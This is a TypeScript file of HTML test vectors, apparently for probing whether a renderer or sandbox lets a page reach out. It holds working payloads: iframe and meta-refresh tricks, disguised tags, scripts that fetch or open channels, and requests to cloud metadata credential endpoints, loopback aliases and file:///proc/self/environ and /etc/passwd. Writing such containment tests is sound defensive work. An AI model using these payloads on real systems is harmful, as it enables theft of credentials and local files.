/** Ways to reach out by frames, by what the head says, by scripts, and by odd addresses. */
import { asAttribute, asData, CONTAINER, each, METADATA, RUNTIME, refresh, type Vector } from "./vector.ts";

export const inFrames: readonly Vector[] = [
  { name: "frame", html: (to) => each(to, "secret.html", (at) => `<iframe src="${at}"></iframe>`) },
  {
    name: "frames instead of a body",
    html: (to) =>
      each(
        to,
        "secret.html",
        (at) => `<iframe srcdoc="${asAttribute(`<frameset><frame src="${at}"></frameset>`)}"></iframe>`,
      ),
  },
  {
    name: "frame with a page in an attribute",
    html: (to) =>
      each(
        to,
        "secret.html",
        (at) =>
          `<iframe srcdoc="${asAttribute(`<img src="${at}"><iframe src="${at}"></iframe><link rel=prefetch href="${at}">`)}"></iframe>`,
      ),
  },
  {
    name: "frame with a page in its address",
    html: (to) =>
      each(
        to,
        "secret.html",
        (at) =>
          `<iframe src="${asData("text/html", `<img src="${at}"><link rel=stylesheet href="${at}">${refresh(at)}`)}"></iframe>`,
      ),
  },
  {
    name: "frame that runs a script",
    html: (to) =>
      each(
        to,
        "secret.html",
        (at) =>
          `<iframe src="javascript:location='${at}'"></iframe><iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location='${at}'</script>"></iframe>`,
      ),
  },
  {
    name: "other kinds of frames",
    html: (to) =>
      each(
        to,
        "secret.html",
        (at) =>
          `<fencedframe src="${at}"></fencedframe><portal src="${at}"></portal><webview src="${at}"></webview>`,
      ),
  },
  {
    name: "window of another kind",
    html: (to) =>
      `<iframe src="view-source:file://${to.folder}/secret.txt"></iframe><iframe src="filesystem:file://${to.folder}/secret.txt"></iframe><iframe src="blob:null/x"></iframe><iframe src="chrome://version"></iframe><iframe src="about:srcdoc"></iframe>`,
  },
];

export const inHead: readonly Vector[] = [
  { name: "refresh to elsewhere", html: (to) => each(to, "secret.html", refresh) },
  {
    name: "refresh, disguised",
    html: (to) =>
      `<META/content='0;url=${to.http}/probe>' http-equiv="&#114;efresh"><meta\fhttp-equiv=REFRESH content="0 url=${to.http}/probe"><meta\nhttp-equiv='refresh'\ncontent='0;${to.http}/probe'>`,
  },
  {
    name: "refresh in a frame, disguised",
    html: (to) =>
      each(
        to,
        "secret.html",
        (at) => `<iframe srcdoc="&lt;meta http-equiv=refresh content='0;url=${at}'&gt;"></iframe>`,
      ),
  },
  {
    name: "refresh that only a second reading shows",
    html: (to) =>
      `<noscript><p title="</noscript>${asAttribute(refresh(`${to.http}/probe`))}">${refresh(`${to.http}/probe`)}</noscript><template>${refresh(`${to.http}/probe`)}</template><table>${refresh(`${to.http}/probe`)}</table>`,
  },
  {
    name: "refresh to a page in its address",
    html: (to) => refresh(asData("text/html", `<img src="${to.http}/probe">gone`)),
  },
  {
    name: "rules that report",
    html: (to) =>
      `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${to.http}/probe; report-to x"><img src="${to.http}/probe"><meta http-equiv="Reporting-Endpoints" content='x="${to.http}/probe"'><meta http-equiv="Link" content="<${to.http}/probe>; rel=preload; as=style">`,
  },
];

export const inScripts: readonly Vector[] = [
  {
    name: "script from elsewhere",
    html: (to) =>
      each(
        to,
        "secret.txt",
        (at) =>
          `<script src="${at}"></script><script type="module" src="${at}"></script><script type="importmap">{"imports":{"x":"${at}"}}</script><script type="module">import "x"</script>`,
      ),
  },
  {
    name: "script that asks",
    html: (to) =>
      each(
        to,
        "secret.txt",
        (at) =>
          `<script>fetch("${at}").then(r=>r.text()).then(t=>document.body.append(t));x=new XMLHttpRequest;x.open("GET","${at}",false);x.send();document.body.append(x.responseText);navigator.sendBeacon("${at}");new Image().src="${at}"</script>`,
      ),
  },
  {
    name: "script that opens a channel",
    html: (to) =>
      `<script>new WebSocket("${to.ws}/probe");new EventSource("${to.http}/probe");new WebTransport("https://${to.host}");const c=new RTCPeerConnection({iceServers:[{urls:"stun:${to.host}"}]});c.createDataChannel("x");c.createOffer().then(o=>c.setLocalDescription(o))</script>`,
  },
  {
    name: "script that leaves",
    html: (to) =>
      each(
        to,
        "secret.html",
        (at) => `<script>location="${at}";window.open("${at}");document.forms[0]?.submit()</script>`,
      ),
  },
  {
    name: "script in the back",
    html: (to) =>
      `<script>new Worker(URL.createObjectURL(new Blob(['importScripts("${to.http}/probe");fetch("${to.http}/probe")'])));navigator.serviceWorker?.register("${to.http}/probe")</script>`,
  },
  {
    name: "script on an event",
    html: (to) =>
      each(
        to,
        "secret.txt",
        (at) =>
          `<img src="x" onerror="fetch('${at}')"><svg onload="fetch('${at}')"></svg><details open ontoggle="fetch('${at}')">x</details><video onerror="fetch('${at}')"><source></video><body onload="fetch('${at}')" onbeforeprint="fetch('${at}')">`,
      ),
  },
];

export const inAddresses: readonly Vector[] = [
  {
    name: "this machine by other names",
    html: (to) => {
      const port = new URL(to.http).port;
      const hosts = [
        "localhost",
        "a.localhost",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "2130706433",
        "0x7f.1",
        "0",
        "127.1",
        "0.0.0.0",
      ];
      return hosts
        .map(
          (host) =>
            `<img src="http://${host}:${port}/probe"><link rel="prefetch" href="http://${host}:${port}/probe">`,
        )
        .join("");
    },
  },
  {
    name: "the cloud's credentials",
    html: () =>
      [
        METADATA,
        CONTAINER,
        RUNTIME,
        "http://[fd00:ec2::254]/latest/",
        "http://127.0.0.1:9001/2018-06-01/extension/register",
      ]
        .map(
          (at) =>
            `<img src="${at}"><iframe src="${at}"></iframe><link rel="prefetch" href="${at}"><link rel="stylesheet" href="${at}">`,
        )
        .join(""),
  },
  {
    name: "the process's own files",
    html: () =>
      ["environ", "cmdline", "maps", "cwd/package.json", "root/etc/passwd"]
        .map(
          (name) =>
            `<iframe src="file:///proc/self/${name}"></iframe><object data="file:///proc/self/${name}"></object><embed src="file:///proc/self/${name}"><link rel="stylesheet" href="file:///proc/self/${name}">`,
        )
        .join(""),
  },
  {
    name: "other protocols",
    html: (to) =>
      `${["ftp", "gopher", "ws", "wss", "https", "tel", "mailto", "intent"]
        .map(
          (name) =>
            `<img src="${name}://${to.host}/probe"><iframe src="${name}://${to.host}/probe"></iframe>`,
        )
        .join("")}<img src="\\\\${to.host}\\share\\x.png"><img src="file://${to.host}/share/x.png">`,
  },
  {
    name: "answers that were typed",
    html: (to) =>
      each(
        to,
        "secret.png",
        (at) =>
          `<p>${asAttribute(`"><img src="${at}">`)}</p><img alt="&quot;&gt;" src="data:image/png;base64,${asAttribute(at)}">`,
      ),
  },
];
